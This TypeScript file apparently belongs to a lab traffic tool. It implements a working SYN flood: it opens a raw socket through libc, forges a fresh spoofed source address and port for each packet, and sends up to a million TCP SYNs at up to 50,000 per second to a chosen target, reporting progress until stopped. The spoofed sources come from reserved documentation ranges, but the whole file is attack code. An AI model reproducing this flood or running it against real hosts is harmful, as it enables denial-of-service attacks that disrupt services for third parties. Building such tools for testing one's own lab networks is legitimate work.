/** Sends TCP SYNs from addresses that nobody in the lab has, through a raw socket. */
import { setTimeout as wait } from 'node:timers/promises';
import { synPacket } from './syn-packet.ts';
import type { ClientContext, SynFloodOptions, SynFloodResult } from './wire.ts';

const mostPackets = 1_000_000;
const mostPerSecond = 50_000;
/** Milliseconds between two bursts. */
const pause = 10;

interface RawSocket {
  send(packet: Buffer): boolean;
  close(): void;
}

/** linux/in.h and asm-generic/socket.h: AF_INET 2, SOCK_RAW 3, IPPROTO_RAW 255, which implies IP_HDRINCL (raw(7)). */
async function openRawSocket(destination: string): Promise<RawSocket> {
  // Loaded here, so that the other verbs start without it.
  const { default: koffi } = await import('koffi');
  const libc = koffi.load('libc.so.6');
  const socket = libc.func('int socket(int domain, int type, int protocol)');
  const sendto = libc.func(
    'int64_t sendto(int fd, const void *buf, size_t len, int flags, const void *addr, uint32_t addrlen)',
  );
  const close = libc.func('int close(int fd)');
  const fd = socket(2, 3, 255) as number;
  if (fd < 0)
    throw new Error(`socket(AF_INET, SOCK_RAW) failed with errno ${koffi.errno()}; it needs CAP_NET_RAW`);
  // struct sockaddr_in: family in host order, port 0, address, padding.
  const address = Buffer.alloc(16);
  address.writeUInt16LE(2, 0);
  Buffer.from(destination.split('.').map(Number)).copy(address, 4);
  return {
    send: (packet) => Number(sendto(fd, packet, packet.length, 0, address, address.length)) === packet.length,
    close: () => {
      close(fd);
    },
  };
}

/** Every packet has a source of its own: the address changes first, then the port. */
function sourceOf(number: number, sources: 'neighbours' | 'far'): { source: string; sourcePort: number } {
  const [network, first, addresses] = sources === 'far' ? ['198.51.100', 1, 254] : ['203.0.113', 128, 127];
  const sourcePort = 1024 + (Math.floor(number / addresses) % 64_000);
  return { source: `${network}.${first + (number % addresses)}`, sourcePort };
}

/** Sends the SYNs at an even rate; ends early on a stop. Throws a RangeError beyond the bounds on count and rate. */
export async function runFlood(options: SynFloodOptions, context: ClientContext): Promise<SynFloodResult> {
  const { address, port, count, perSecond, sources = 'far' } = options;
  if (!(count >= 1 && count <= mostPackets)) throw new RangeError(`count is 1 to ${mostPackets}`);
  if (!(perSecond >= 1 && perSecond <= mostPerSecond))
    throw new RangeError(`perSecond is 1 to ${mostPerSecond}`);
  let stopped = false;
  context.onCommand((command) => {
    stopped ||= command === 'stop';
  });
  const socket = await openRawSocket(address);
  const start = performance.now();
  let tried = 0;
  let sent = 0;
  while (!stopped && tried < count) {
    const due = Math.min(count, Math.ceil(((performance.now() - start) / 1000) * perSecond));
    for (; tried < due; tried += 1) {
      const sequence = Math.imul(tried + 1, 0x9e3779b1) >>> 0;
      const syn = { ...sourceOf(tried, sources), destination: address, destinationPort: port, sequence };
      if (socket.send(synPacket(syn))) sent += 1;
    }
    context.tell({ event: 'progress', count: sent, failed: tried - sent });
    await wait(pause);
  }
  socket.close();
  return { sent, refused: tried - sent, seconds: (performance.now() - start) / 1000 };
}
